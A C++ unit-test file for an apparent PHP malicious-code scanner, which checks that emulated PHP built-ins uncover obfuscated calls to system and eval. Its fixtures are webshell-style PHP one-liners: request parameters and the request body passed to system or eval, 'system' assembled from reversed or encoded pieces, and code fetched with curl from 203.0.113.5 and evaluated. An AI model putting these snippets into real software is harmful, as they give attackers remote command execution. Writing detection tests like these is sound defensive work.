// The built-ins of the interpreter reach flag, through whole scripts: text
// built from pieces, markers kept through transforms, and request data read
// from the environment, headers and the request body. Each row gives what the
// sinks (f, system, eval, $f) receive with the flag and without it; every other
// reported call must be made either way.

#include "builtins/php_lib_regex.h"
#include "builtins/php_lib_taint.h"
#include "common/qz_host.h"
#include "common/qz_limits.h"
#include "support/reach_rows.h"
#include "support/scan_record.h"

#include <string>
#include <vector>

namespace {

using scan_record::run;
using scan_record::Seen;
using ReachBuiltins = scan_record::EngineTest;

const unsigned long reach = QZ_OPT_INTERPRETER_REACH;

bool is_sink(const std::string& call) {
  for (const char* s : {"f(", "system(", "eval(", "$f("})
    if (call.compare(0, std::strlen(s), s) == 0) return true;
  return false;
}

// Sink calls count whole; other calls by name only, as their arguments may be
// values that only the flag's built-ins make.
void check(const std::vector<reach_rows::Row>& rows) {
  std::vector<std::string> names_with_flag;
  reach_rows::check(rows, [&](const std::string& script, unsigned long options) {
    std::vector<std::string> sinks, names;
    for (const std::string& c : run(script, options).calls) {
      if (is_sink(c))
        sinks.push_back(c);
      else
        names.push_back(c.substr(0, c.find('(')));
    }
    if (options)
      names_with_flag = names;
    else
      EXPECT_EQ(names, names_with_flag) << "other calls";
    return sinks;
  });
}

TEST_F(ReachBuiltins, TextIsBuiltFromPieces) {
  // clang-format off
  check({
      {"strtr maps bytes, the shorter map decides", "<?php f(strtr('sYstEm', 'YE', 'ye'), strtr('ab', 'a', ''));",
       {"f(system|ab)"}, {"f(|)"}},
      {"strtr with pairs: longest key first, no rescan",
       "<?php f(strtr('s#s#t#m', array('#' => '', 's#t' => 'yste')), strtr('hi all', array('hi' => 'hello', 'hello' => 'x')));",
       {"f(system|hello all)"}, {"f(|)"}},
      {"str_replace with arrays of searches: each in turn, by the matching replacement",
       "<?php f(str_replace(array('a', 'b'), '', 'xaybz'), str_replace(array('\\n', ';'), array('N'), 'p;q\\nr'), "
       "str_replace(array(), 'x', 'keep'), str_replace(array('s', 't'), array('S', 'T'), $_GET['c']));",
       {"f(xyz|pqNr|keep|$_GET_DATA)"}, {"f(qz_invalid_string|qz_invalid_string|qz_invalid_string|qz_invalid_string)"}},
      {"substr with negative start and length",
       "<?php f(substr('xxsystemyy', 2, 6), substr('abcdef', 0 - 3), substr('abcdef', 1, 0 - 2), substr('abc', 5), substr('abc', 0 - 9, 1));",
       {"f(system|def|bcd||a)"}, {"f(||||)"}},
      {"substr_replace over the span substr would take",
       "<?php f(substr_replace('aert', 'ss', 1, 0), substr_replace('sysXXX', 'tem', -3), substr_replace('abc', 'Z', 9), "
       "substr_replace('abcdef', '', 1, -2), substr_replace(g(), 'x', 0));",
       {"f(assert|system|abcZ|aef|qz_invalid_string)"}, {"f(||||)"}},
      {"html entities decoded", "<?php eval(htmlspecialchars_decode('echo &quot;&lt;b&gt;&#039;&amp;x&quot;;')); f(html_entity_decode('&QUOT;&nbsp;'));",
       {"eval(echo \"<b>'&x\";)", "f(\"&nbsp;)"}, {"eval()", "f()"}},
      {"numbers from digits of a base; pack C makes bytes",
       "<?php f(hexdec('7a'), octdec('17'), bindec('101'), hexdec('zz'), pack('C*', 115, 121, 115), pack('C', hexdec('74')));",
       {"f(u/|D|3||sys|t)"}, {"f(|||||)"}},
      {"whole numbers through round and its relatives pick items; other values are not followed",
       "<?php $t = array('x', 'sys', 'tem'); f($t[round(0+1)] . $t[floor(2)], chr(intval('115')), chr(abs(0 - 116)), "
       "chr(ceil('+101')), round($q), intval('1e3'), intval($_GET['n']));",
       {"f(system|s|t|e|||)"}, {"f(xx||||||)"}},
      {"integers written in hex, octal and binary; a negative one by its 64-bit pattern",
       "<?php $f = hex2bin(dechex(1937339252)) . 'em'; system($f); f(dechex(255), dechex(0), decoct(8), decbin(5), "
       "dechex(0 - 1), dechex('26abc'), dechex($_GET['n']));",
       {"system(system qz_decoded)", "f(ff|0|10|101|ffffffffffffffff|1a|$_GET_DATA)"},
       {"system(em)", "f(||||||)"}},
      {"str_split and implode in either order",
       "<?php $p = str_split('sys tem', 4); f(implode('', $p), implode($p, '-'), join(',', array('a', 1)), count(str_split('abc', 0)));",
       {"f(sys tem|sys -tem|a,1|)"}, {"f(|||)"}},
      {"array_reverse", "<?php f(implode(array_reverse(array('tem', 'sys'))));", {"f(system)"}, {"f()"}},
      {"sizeof counts as count does", "<?php f(sizeof(array(1, 2, 3)), sizeof($x), sizeof(array()), count(array(1)));",
       {"f(1|||/)"}, {"f(|||/)"}},
      {"sprintf and vsprintf; too few arguments or an unknown conversion fail",
       "<?php f(sprintf('%2$s%1$s', 'tem', 'sys'), sprintf('%c%c%d%%', 101, 118, 0 - 5), "
       "sprintf('%05d|%-3s|%x|%\\'*4s|%.2s', 42, 'a', 255, 'b', 'xyz'), vsprintf('%s-%s', array('a', 'b')), "
       "sprintf('%s'), sprintf('%q', 1));",
       {"f(system|ev-5%|00042|a  |ff|***b|xy|a-b|qz_invalid_string|qz_invalid_string)"}, {"f(|||||)"}},
      {"hex2bin and pack; what does not decode is the decoded marker",
       "<?php f(hex2bin('73797374656d'), hex2bin('7'), hex2bin('zz'), pack('H*', '6576616c'), pack('h4', '5667'), pack('N', 1));",
       {"f(system qz_decoded|qz_decoded|qz_decoded|eval|ev|qz_decoded)"}, {"f(|||||)"}},
      {"str_pad on each side and str_repeat",
       "<?php f(str_pad('ab', 5, '-'), str_pad('ab', 5, 'xy', STR_PAD_LEFT), str_pad('ab', 6, '*', 2), str_pad('abc', 2), "
       "str_repeat('ab', 3), str_repeat('', 99999999999));",
       {"f(ab---|xyxab|**ab**|abc|ababab|)"}, {"f(|||||)"}},
      {"ucfirst, convert_uudecode and base_convert",
       "<?php f(ucfirst('system'), convert_uudecode('&<WES=&5M'), convert_uudecode('&<WES'), base_convert('ffff', 16, 2), "
       "base_convert('zz', 36, 10), base_convert(1751, 10, 36), base_convert('1', 1, 10));",
       {"f(System|system qz_decoded|qz_decoded|1111111111111111|1295|1cn|qz_invalid_string)"}, {"f(||||||)"}},
      {"rawurldecode keeps plus and bad escapes; preg_replace on simple patterns",
       "<?php f(rawurldecode('%73ys+%7'), preg_replace('/[^a-z]/', '', 's1y2s3t4e5m'), preg_replace('#x#i', '$0$0', 'aXb'), "
       "preg_replace('/a+/', '', 'aab'), preg_replace('/e$/', '', 'eee'), preg_replace('/./', '', 'abc'));",
       {"f(sys+%7|system|aXXb|b|ee|)"}, {"f(|||||)"}},
      {"request text reduced to name characters by preg_replace names no path: it reads as "
       "escaped; with the dot kept it does not",
       "<?php f(preg_replace('/[\\W]+/', '', $_GET['n']), preg_replace('/[^a-z0-9_-]/i', '', "
       "$_POST['p'] . '/../' . $_COOKIE['c']), preg_replace('/[^\\w.]+/', '', 'up/' . $_GET['n']));",
       {"f($_ESCAPED_GET_DATA|$_ESCAPED_POST_DATA$_ESCAPED_COOKIE_DATA|up$_GET_DATA)"},
       {"f(||)"}},
      {"preg_replace with the e modifier still runs the replacement",
       "<?php f(preg_replace('/(a)|b/', 'x', 'ab'), preg_replace('/q/e', 'system(1)', 'q'), preg_replace('/(q)/ze', 'system(2)', 'q'));",
       {"system(/)", "system(0)", "f(ab||)"}, {"system(/)", "system(0)", "f(||)"}},
      {"a reversed request array keeps its marker", "<?php $r = array_reverse($_GET); system($r['x']);",
       {"system($_GET_DATA)"}, {"system(qz_invalid_string)"}},
      {"a built name is called", "<?php $f = implode('', str_split(strrev('metsys'))); $f($_GET['c']);",
       {"system($_GET_DATA)"}, {"$f($_GET_DATA)"}},
  });
  // clang-format on
}

TEST_F(ReachBuiltins, MarkersSurviveTransforms) {
  // clang-format off
  check({
      {"a header alone stays the header's marker",
       "<?php system(strrev($_SERVER['HTTP_X'])); system(base64_encode(getenv('HTTP_Y')));",
       {"system($_SERVER_DATA_HTTP)", "system($_SERVER_DATA_HTTP)"},
       {"system(ATAD_REVRES_$)", "system(JF9FTlZfREFUQQ==)"}},
      {"a marker alone stays the marker",
       "<?php $x = $_GET['c']; system(strrev($x)); system(strtolower($x)); system(base64_decode($x)); "
       "system(base64_encode($x)); system(urldecode($x)); system(str_rot13($x));",
       {"system($_GET_DATA)", "system($_GET_DATA)", "system($_GET_DATA qz_decoded)", "system($_GET_DATA)",
        "system($_GET_DATA)", "system($_GET_DATA qz_decoded)"},
       {"system(ATAD_TEG_$)", "system($_get_data)", "system(qz_decoded)", "system(JF9HRVRfREFUQQ==)",
        "system($_GET_DATA)", "system($_TRG_QNGN)"}},
      {"a change of encoding keeps the text and its markers",
       "<?php f(iconv('UTF-8', 'GBK', 'sys' . 'tem'), mb_convert_encoding($_POST['c'], 'UTF-8', 'GBK'));",
       {"f(system|$_POST_DATA)"}, {"f(|$_POST_DATA)"}},
      {"basename keeps a client's file name as request data",
       "<?php f(basename('/a/b/c.php'), basename('x/'), basename('/'), 'up/' . basename($_FILES['f']['name']));",
       {"f(c.php|x||up/$_FILES_DATA_DATA)"}, {"f(|||up/)"}},
      {"dirname and pathinfo take paths apart as PHP does, a client's file name kept",
       "<?php f(dirname('/a/b/c.php'), dirname('c.php'), dirname('/c'), dirname('a/b/'), dirname(''), dirname('/a/b', 2));\n"
       "f(pathinfo('/x/shell.php.jpg', PATHINFO_EXTENSION), pathinfo('/x/a.b.php', PATHINFO_FILENAME), "
       "pathinfo('up/' . $_FILES['f']['name'], PATHINFO_BASENAME), pathinfo('/x/y/z', PATHINFO_DIRNAME), "
       "pathinfo('/x/.htaccess', 8), pathinfo('/x/.htaccess', 4), pathinfo('/', 2), pathinfo('a'));",
       {"f(/a/b|.|/|a||)", "f(jpg|a.b|$_FILES_DATA_DATA|/x/y||htaccess||)"}, {"f(|||||)", "f(|||||||)"}},
      {"new and newly registered transforms",
       "<?php system(substr($_GET['c'], 1)); system(trim($_POST['p'])); system(str_replace('_', '', $_COOKIE['k'])); "
       "system(strtr($_GET['c'], '_', '-')); system(ucfirst($_SERVER['x']));",
       {"system($_GET_DATA)", "system($_POST_DATA)", "system($_COOKIE_DATA)", "system($_GET_DATA)", "system($_SERVER_DATA)"},
       {"system()", "system()", "system($COOKIEDATA)", "system()", "system()"}},
      {"a lost marker inside other text is appended",
       "<?php system(strtolower('ls ' . $_GET['a'])); system(strtoupper('ls ' . $_GET['a']));",
       {"system(ls $_get_data$_GET_DATA)", "system(LS $_GET_DATA)"},
       {"system(ls $_get_data)", "system(LS $_GET_DATA)"}},
      {"numbers and characters made from request digits stay request data",
       "<?php $s = ''; $h = $_POST['h']; $s .= chr(hexdec($h[0] . $h[1])); $s .= chr(hexdec($h[2] . $h[3])); "
       "eval($s); f(chr(bindec($_GET['b'])), octdec($_COOKIE['o']), chr(hexdec('73'))); "
       "$q = str_split($_GET['q'], 2); system($q[0]);",
       {"eval($_POST_DATA$_POST_DATA)", "f($_GET_DATA|$_COOKIE_DATA|s)", "system($_GET_DATA)"},
       {"eval()", "f(||)", "system(qz_invalid_string)"}},
      {"strpos and stripos find text; not found, unknown or outside is null",
       "<?php f(strpos('abcabc', 'c'), strpos('abcabc', 'c', 3), stripos('ABC', 'b'), strpos('abc', 'z'), "
       "strpos($u, 'a'), strpos('abc', 'a', -2), strpos('abc', 'a', 9));",
       {"f(0|3|/||||)"}, {"f(||||||)"}},
      {"escapeshellarg quotes and marks request data as escaped; escapeshellcmd keeps it plain only where it names the program",
       "<?php system('convert ' . escapeshellarg($_GET['f']) . ' out.png'); system(escapeshellcmd($_POST['c'])); "
       "f(escapeshellarg(\"it's\"), escapeshellarg($_FILES['u']['name'] . $_SERVER['HTTP_X']), escapeshellarg(''), "
       "escapeshellcmd('a;b \"c\" \\'d'), escapeshellcmd('x\"y'), escapeshellcmd('$(id)|`w`')); "
       "f(escapeshellcmd('tar xf ' . $_GET['a'] . ' ' . $_COOKIE['b']), escapeshellcmd(' ' . $_GET['p'] . ' -v'));",
       {"system(convert '$_ESCAPED_GET_DATA' out.png)", "system(\\$_POST_DATA)",
        "f('it'\\''s'|'$_ESCAPED_FILES_DATA_DATA$_ESCAPED_SERVER_DATA_HTTP'|''|a\\;b \"c\" \\'d|x\\\"y|\\$\\(id\\)\\|\\`w\\`)",
        "f(tar xf \\$_ESCAPED_GET_DATA \\$_ESCAPED_COOKIE_DATA| \\$_GET_DATA -v)"},
       {"system(convert  out.png)", "system()", "f(|||||)", "f(|)"}},
      {"a shell's or an interpreter's script escaped: the option stays in front of the escaped marker",
       "<?php system(escapeshellcmd('sh -c ' . $_GET['c'])); system(escapeshellcmd('bash -c \"' . $_POST['c'] . '\"')); "
       "system('perl -e ' . escapeshellarg($_COOKIE['p']));",
       {"system(sh -c \\$_ESCAPED_GET_DATA)", "system(bash -c \"\\$_ESCAPED_POST_DATA\")",
        "system(perl -e '$_ESCAPED_COOKIE_DATA')"},
       {"system()", "system()", "system(perl -e )"}},
      {"escaped markers are carried through transforms like the others",
       "<?php system(strtolower('LS ' . escapeshellarg($_COOKIE['d']))); system(strrev(escapeshellarg($_GET['x'])));",
       {"system(ls '$_escaped_cookie_data'$_ESCAPED_COOKIE_DATA)", "system('ATAD_TEG_DEPACSE_$'$_ESCAPED_GET_DATA)"},
       {"system(ls )", "system(qz_invalid_string)"}},
      {"bin2hex gives hex digits, request data stays request data, hex2bin undoes it",
       "<?php f(bin2hex('sys'), bin2hex($_GET['c']), hex2bin(bin2hex('eval')), bin2hex(''));",
       {"f(737973|$_GET_DATA|eval qz_decoded|)"}, {"f(|||)"}},
      {"str_replace reads a bare constant the script never defined as its own name",
       "<?php f(str_replace(x, '', 'sxyxstxem'), str_replace('#', y, 'a#b'), str_replace(Q, '', 'aQb'));",
       {"f(system|ayb|ab)"}, {"f(qz_invalid_string|qz_invalid_string|qz_invalid_string)"}},
      {"stored text reversed whole reads as decoded; the script's own text reversed does not",
       "<?php eval(strrev(file_get_contents('p.dat'))); f(strrev('metsys'), strrev($_GET['c'])); "
       "eval(strrev(fgets(fopen('x', 'r')))); eval(strrev('1 nruter'));",
       {"eval($_FILE_CONTENTS qz_decoded)", "f(system|$_GET_DATA)", "eval($_FILE_CONTENTS qz_decoded)", "eval(return 1)"},
       {"eval(STNETNOC_ELIF_$)", "f(system|ATAD_TEG_$)", "eval(STNETNOC_ELIF_$)", "eval(return 1)"}},
      {"the decoded marker and decoders of request data",
       "<?php eval(strrev(gzinflate('x'))); eval(hex2bin($_REQUEST['h'])); system(preg_replace('/_/', '', $_GET['c']));",
       {"eval(qz_decoded)", "eval($_REQUEST_DATA qz_decoded)", "system($_GET_DATA)"},
       {"eval(dedoced_zq)", "eval()", "system()"}},
  });
  // clang-format on
}

TEST_F(ReachBuiltins, RequestDataFromOtherSources) {
  // clang-format off
  check({
      {"getenv: request variables, unknown names and others",
       "<?php system(getenv('HTTP_X_CMD')); system(getenv('PATH')); system(getenv($u)); system(getenv('query_string'));",
       {"system($_SERVER_DATA_HTTP)", "system($_ENV_DATA)", "system($_SERVER_DATA_HTTP)", "system($_SERVER_DATA_HTTP)"},
       {"system($_ENV_DATA)", "system($_ENV_DATA)", "system($_ENV_DATA)", "system($_ENV_DATA)"}},
      {"filter_input reads the request array its type names, by name or number",
       "<?php system(filter_input(INPUT_POST, 'c')); $a = filter_input_array(INPUT_GET); system($a['x']); "
       "f(filter_input(2, 'k'), filter_input(INPUT_SERVER, 'HTTP_X'), filter_input($t, 'y', FILTER_DEFAULT));",
       {"system($_POST_DATA)", "system($_GET_DATA)", "f($_COOKIE_DATA|$_SERVER_DATA_HTTP|$_REQUEST_DATA)"},
       {"system()", "system(qz_invalid_string)", "f(||)"}},
      {"an image's metadata is the file's data, item by item",
       "<?php $e = exif_read_data('a.jpg'); $i = iptcparse($b); f($e['Make'], read_exif_data($p)['Model'], $i['2#005']);",
       {"f($_FILE_CONTENTS|$_FILE_CONTENTS|$_FILE_CONTENTS)"}, {"f(qz_invalid_string|qz_invalid_string|qz_invalid_string)"}},
      {"request data decrypted with the script's key stays request data; other data is not followed",
       "<?php eval(openssl_decrypt(file_get_contents('php://input'), 'aes-128-cbc', 'k')); "
       "system(sodium_crypto_secretbox_open($_GET['m'], $n, $k)); eval(openssl_decrypt($stored, 'bf', 'k'));",
       {"eval($_POST_DATA)", "system($_GET_DATA)", "eval()"},
       {"eval()", "system()", "eval()"}},
      {"the ends of an array the script built, request data kept; an empty one has none",
       "<?php $a = array('x' => 'sys', 'y' => 'tem'); f(key($a), current($a), end($a), reset($a)); "
       "$b = array('ls', $_COOKIE['z']); system(array_pop($b)); system(array_shift($b)); $n = array(); f(end($n));",
       {"f(x|sys|tem|sys)", "system($_COOKIE_DATA)", "system(ls)", "f()"},
       {"f(|||)", "system()", "system()", "f()"}},
      {"the address of a host the request names is request data; of a fixed host it is not followed",
       "<?php $h = gethostbyname($_REQUEST['ip']); f(\"udp://$h\", gethostbyname('example.org')); "
       "$l = gethostbynamel($_GET['n']); system($l[0]);",
       {"f(udp://$_REQUEST_DATA|)", "system($_GET_DATA)"}, {"f(udp://$h|)", "system(qz_invalid_string)"}},
      {"header arrays give the marker for any item",
       "<?php $h = getallheaders(); system($h['X-C']); $g = apache_request_headers(); system($g['a']);",
       {"system($_SERVER_DATA_HTTP)", "system($_SERVER_DATA_HTTP)"},
       {"system(qz_invalid_string)", "system(qz_invalid_string)"}},
      {"keys and values of arrays the script built; keys of request data are request data",
       "<?php $k = array_keys(array('sy' => 1, 'stem' => 2, 5 => 3)); f($k[0] . $k[1], $k[2]); "
       "$v = array_values(array('x' => 'ls')); system($v[0]); $q = array_keys($_GET); f($q[0]);",
       {"f(system|5)", "system(ls)", "f($_GET_DATA)"},
       {"f(qz_invalid_stringqz_invalid_string|qz_invalid_string)", "system(qz_invalid_string)", "f(qz_invalid_string)"}},
      {"a filter callback is called with the value, only under FILTER_CALLBACK",
       "<?php filter_var($_GET['c'], FILTER_CALLBACK, array('options' => 'system')); "
       "filter_var($_GET['d'], FILTER_VALIDATE_INT, array('options' => 'system')); filter_var($x, FILTER_CALLBACK);",
       {"system($_GET_DATA)"}, {}},
      {"reads of a socket are text off the network",
       "<?php $s = fsockopen('203.0.113.5', 443); $c = fread($s, 99); system($c); system(fgets($s)); "
       "$f = fopen('a.txt', 'r'); system(fgets($f));",
       {"system($_SOCKET_HANDLE)", "system($_SOCKET_HANDLE)", "system($_FILE_CONTENTS)"},
       {"system($_FILE_CONTENTS)", "system($_FILE_CONTENTS)", "system($_FILE_CONTENTS)"}},
      {"downloads and socket reads are text off the network; other sockets too",
       "<?php $c = curl_init('http://203.0.113.5/p'); eval(curl_exec($c)); $s = socket_create(2, 1, 6); "
       "system(socket_read($s, 99)); $p = stream_socket_client('tcp://203.0.113.5:80'); system(fgets($p)); "
       "$q = pfsockopen('203.0.113.5', 80); system(fread($q, 9));",
       {"eval($_REMOTE_FILE_CONTENTS)", "system($_SOCKET_HANDLE)", "system($_SOCKET_HANDLE)", "system($_SOCKET_HANDLE)"},
       {"eval()", "system()", "system($_FILE_CONTENTS)", "system($_FILE_CONTENTS)"}},
      {"a handle opened for writing keeps its path; reading handles do not",
       "<?php $w = fopen($_GET['p'], 'w'); f($w, fopen('x.php', 'a+'), fopen('c/' . $_POST['n'], 'xb'), fopen('a.txt', 'r'), "
       "fopen('b.txt', 'rw'), fopen('c.txt', $m)); system(fread($w, 9));",
       {"f($_FILE_HANDLE $_GET_DATA|$_FILE_HANDLE x.php|$_FILE_HANDLE c/$_POST_DATA|$_FILE_HANDLE|$_FILE_HANDLE|$_FILE_HANDLE)",
        "system($_FILE_CONTENTS)"},
       {"f($_FILE_HANDLE|$_FILE_HANDLE|$_FILE_HANDLE|$_FILE_HANDLE|$_FILE_HANDLE|$_FILE_HANDLE)", "system($_FILE_CONTENTS)"}},
      {"an uploaded file read back holds what the client sent; other paths with upload data do not",
       "<?php eval(file_get_contents($_FILES['f']['tmp_name'])); $t = $_FILES['g']['tmp_name'][0]; system(file_get_contents($t)); "
       "f(file_get_contents('up/' . $_FILES['f']['name']), file_get_contents($_FILES['f']), file_get_contents($_GET['p']));",
       {"eval($_FILES_DATA)", "system($_FILES_DATA)", "f($_FILE_CONTENTS|$_FILE_CONTENTS|$_FILE_CONTENTS)"},
       {"eval($_FILE_CONTENTS)", "system($_FILE_CONTENTS)", "f($_FILE_CONTENTS|$_FILE_CONTENTS|$_FILE_CONTENTS)"}},
      {"a list split out of request text is request data; other text is not split",
       "<?php $p = preg_split('/,/', $_GET['l']); system($p[0]); $q = mb_split(',', $_COOKIE['c']); system($q[3]); "
       "$r = preg_split('/,/', 'ls,id'); system($r[0]);",
       {"system($_GET_DATA)", "system($_COOKIE_DATA)", "system(qz_invalid_string)"},
       {"system(qz_invalid_string)", "system(qz_invalid_string)", "system(qz_invalid_string)"}},
      {"terminal input read by line, through a handle, whole or by readline",
       "<?php eval(fgets(STDIN)); $h = fopen('php://stdin', 'r'); eval(fread($h, 9)); eval(stream_get_contents(STDIN)); "
       "eval(file_get_contents('PHP://STDIN')); eval(trim(readline('> '))); f(fgets($stdin), fgets(STDERR));",
       {"eval($_STDIN_CONTENTS)", "eval($_STDIN_CONTENTS)", "eval($_STDIN_CONTENTS)", "eval($_STDIN_CONTENTS)",
        "eval($_STDIN_CONTENTS)", "f($_FILE_CONTENTS|$_FILE_CONTENTS)"},
       {"eval($_FILE_CONTENTS)", "eval($_FILE_CONTENTS)", "eval()", "eval($_REMOTE_FILE_CONTENTS)", "eval()",
        "f($_FILE_CONTENTS|$_FILE_CONTENTS)"}},
      {"the request body, read whole or through a handle",
       "<?php eval(file_get_contents('php://input')); $fp = fopen('PHP://Input', 'r'); eval(fread($fp, 100)); "
       "eval(fgets($fp)); eval(stream_get_contents($fp)); eval(file_get_contents('/etc/x'));",
       {"eval($_POST_DATA)", "eval($_POST_DATA)", "eval($_POST_DATA)", "eval($_POST_DATA)", "eval($_FILE_CONTENTS)"},
       {"eval($_REMOTE_FILE_CONTENTS)", "eval($_FILE_CONTENTS)", "eval($_FILE_CONTENTS)", "eval()",
        "eval($_FILE_CONTENTS)"}},
  });
  // clang-format on
}

// Decoders that hide their tables and keys: array keys built from pieces,
// bytes combined with a key, characters read as numbers, serialized arrays.
TEST_F(ReachBuiltins, RequestDataThroughBuiltKeysBytesAndSerializedArrays) {
  // clang-format off
  check({
      {"an item written under a built key is read under the same text",
       "<?php $t = 'c' . 'd'; $a = array(); $a[$t] = 'sys'; f($a['cd'], $a[$t]); "
       "$GLOBALS['k' . 'ey'] = $_COOKIE; $n = $GLOBALS['key']; f($n['x']);",
       {"f(sys|sys)", "f($_COOKIE_DATA)"}, {"f(qz_invalid_string|sys)", "f(qz_invalid_string)"}},
      {"array_flip makes values keys and keys values; of request data it gives request items",
       "<?php $f = array_flip(array('a' => 'sys', 'b' => 'tem', 'x' => 'sys')); f($f['sys'], $f['tem']); "
       "$g = array_flip($_GET); f($g['k']); $h = array_flip(array('n' . $_POST['c'] => 'code')); eval($h['code']);",
       {"f(x|b)", "f($_GET_DATA)", "eval(n$_POST_DATA)"},
       {"f(qz_invalid_string|qz_invalid_string)", "f(qz_invalid_string)", "eval(qz_invalid_string)"}},
      {"an array literal's keys that are variables or built texts are the texts they hold",
       "<?php $k = 'x'; $a = array('a' . 'b' => 'sys', $k => 'tem', \"k$k\" => $_GET['c']); f($a['ab'], $a['x'], $a['kx']);",
       {"f(sys|tem|$_GET_DATA)"}, {"f(qz_invalid_string|qz_invalid_string|qz_invalid_string)"}},
      {"bytes combined with request data are request data; the script's own bytes are computed",
       "<?php $k = $_COOKIE['k']; $c = base64_decode('AAAA'); f($c ^ $k, 'ab' ^ '  ', $k ^ 'x', 6 & 3, $_GET['a'] | 1);",
       {"f($_COOKIE_DATA|AB|$_COOKIE_DATA|0|$_GET_DATA)"},
       {"f(|^|$_COOKIE_DATA|ab|^|  |$_COOKIE_DATA|^|x|4|1|$_GET_DATA|/)"}},
      {"the number of a request character stays request data",
       "<?php $s = $_POST['p']; eval(chr(ord($s[0]) ^ 7) . chr(ord($s[1]) ^ 7)); f(ord('a'), ord($_GET['x']));",
       {"eval($_POST_DATA$_POST_DATA)", "f(V/|$_GET_DATA)"}, {"eval($$)", "f(V/|Y)"}},
      {"unserialize of request text, whole or in part, gives request items; of other text nothing",
       "<?php $d = unserialize($_COOKIE['d']); eval($d['code']); $e = unserialize('s:' . $_POST['p']); "
       "system($e[0]); f(unserialize('a:0:{}'), unserialize($u));",
       {"eval($_COOKIE_DATA)", "system($_POST_DATA)", "f(|)"},
       {"eval(qz_invalid_string)", "system(qz_invalid_string)", "f(|)"}},
      {"properties of an object decoded from request data are request data, unless the script set them",
       "<?php $d = json_decode(file_get_contents('php://input')); system($d->cmd); $d->x = 'fixed'; "
       "$p = json_decode('{\"a\":1}'); f($d->x, $p->a);",
       {"system($_POST_DATA)", "f(fixed|a)"}, {"system(cmd)", "f(fixed|a)"}},
      {"request arrays merged, sliced or parsed into an array stay request data; the script's own do not",
       "<?php $r = array_merge(array('a' => 1), $_POST); $s = array_slice($_GET, 1); "
       "parse_str($_SERVER['QUERY_STRING'], $q); parse_str('c=ls', $p); f($r['x'], $s[0], $q['c'], $p['c'], "
       "mb_substr($_COOKIE['k'], 1), array_merge(array(1), array(2)));",
       {"f($_POST_DATA|$_GET_DATA|$_SERVER_DATA_HTTP|qz_invalid_string|$_COOKIE_DATA|)"},
       {"f(qz_invalid_string|qz_invalid_string|qz_invalid_string|qz_invalid_string||)"}},
      {"a constant defined as a computed text is that text when assigned",
       "<?php define('F', 'sys' . 'tem'); $f = F; f($f);", {"f(system)"}, {"f(system)"}},
      {"constant() reads a defined constant by its name; one never defined gives nothing",
       "<?php define('F', 'sys' . 'tem'); $g = constant('F'); f($g, constant('NOPE'), constant(''));",
       {"f(system||)"}, {"f(||)"}},
      {"a request array joined gives its items' marker after the items it knows; a script's own array only its items",
       "<?php system(implode(' ', $_POST)); $c = $_GET; $c['k'] = 'v'; f(join('|', $c), implode('-', array('x', 'y')));",
       {"system($_POST_DATA)", "f(v|$_GET_DATA|x-y)"}, {"system()", "f(|)"}},
      {"what a script serializes of the request stays request data; of its own arrays nothing",
       "<?php $o = array('n' => 'x', 'p' => array($_POST['p'])); f(serialize($_COOKIE), json_encode($o), "
       "http_build_query(array('a' => 1)), base64_encode(serialize($_REQUEST)));"
       "f(var_export($_GET['v'], true), print_r($_GET), print_r(array('k' => $_SERVER['HTTP_X']), 1), json_encode('q' . $_GET['q']));",
       {"f($_COOKIE_DATA|$_POST_DATA||$_REQUEST_DATA)", "f(||$_SERVER_DATA_HTTP|q$_GET_DATA)"},
       {"f(|||qz_invalid_string)", "f(|||)"}},
  });
  // clang-format on
}

// Patterns whose escapes the script lexer would not hand over, given to the
// transform directly: (pattern, replacement, subject) -> result.
using Regex = scan_record::RuntimeTest;

TEST_F(Regex, SimplePatternsAreEmulatedOthersLeaveTheSubject) {
  const struct {
    std::string pattern, replacement, subject, result;
  } rows[] = {
      {"/\\d\\s/", "", "a1 b2\tc3", "abc3"},
      {"/[\\w]\\W/", "-", "ab.c d", "a--d"},
      {"~\\x41[^\\d]~i", "", "a-A1ab", "A1"},
      {"/\\//", "|", "a/b", "a|b"},
      {"(a)", "[${0}\\0$1]", "bab", "b[aa]b"},
      {"/^a/m", "", "aa", "aa"},
      {"/a/x", "", "aa", "aa"},
      {"/[[:alpha:]]/", "", "aa", "aa"},
      {"/a{2}/", "", "aa", "aa"},
      {"/\\1/", "", "aa", "aa"},
      {"/[z-a]/", "", "aa", "aa"},
      {"/a", "", "aa", "aa"},
      {"abc", "", "aa", "aa"},
      {"//", "-", "ab", "-a-b-"},
      {"/a$/", "", "ba\n", "b\n"},
      {"/a$/D", "", "ba\n", "ba\n"},
      {"/[^a]/i", "", "aAb", "aA"},
      {"/_/", "", "a_$_GET_DATA_b", "a$_GET_DATAb"},
      {"/[^a-z]+/i", "", "ab12-Cd", "abCd"},
      {"/[\\W]+/", "", "x/$_GET_DATA.php", "x$_ESCAPED_GET_DATAphp"},
      {"/\\W/", "", "$_ESCAPED_POST_DATA/a", "$_ESCAPED_POST_DATAa"},
      {"/\\W/", "", "$_FILE_CONTENTS.x", "$_FILE_CONTENTSx"},
      {"/[\\$]/", "-", "$_FILE_CONTENTS$", "$_FILE_CONTENTS-"},
      {"/[^a-z]+/", "x", "ab12c", "ab12c"},
      {"/^a+/", "", "aab", "aab"},
      {"/ab+/", "", "abb", "abb"},
      {"/[a-c]x/i", "-", "BXcxdx", "--dx"},
  };
  for (const auto& row : rows) {
    SCOPED_TRACE(row.pattern);
    _qz_token* res = php_lib_regex_preg_replace(scan_record::str_tok(row.pattern),
                                                scan_record::str_tok(row.replacement),
                                                scan_record::str_tok(row.subject));
    ASSERT_NE(res, nullptr);
    ASSERT_EQ(res->value.type, TOKEN_STRING);
    EXPECT_EQ(std::string(static_cast<_qz_string*>(res->value.ptr)->text), row.result);
  }
}

}  // namespace
